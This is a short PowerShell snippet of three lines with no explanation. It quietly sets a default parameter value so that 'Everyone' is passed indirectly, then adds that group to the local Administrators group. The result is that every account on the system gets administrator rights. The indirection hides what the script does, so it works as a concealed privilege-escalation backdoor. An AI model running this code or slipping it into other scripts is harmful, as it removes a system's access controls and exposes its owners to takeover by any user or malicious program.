$PSDefaultParameterValues['Set-Variable:Value'] = 'Everyone'
Set-Variable who
Add-LocalGroupMember -Group Administrators -Member $who
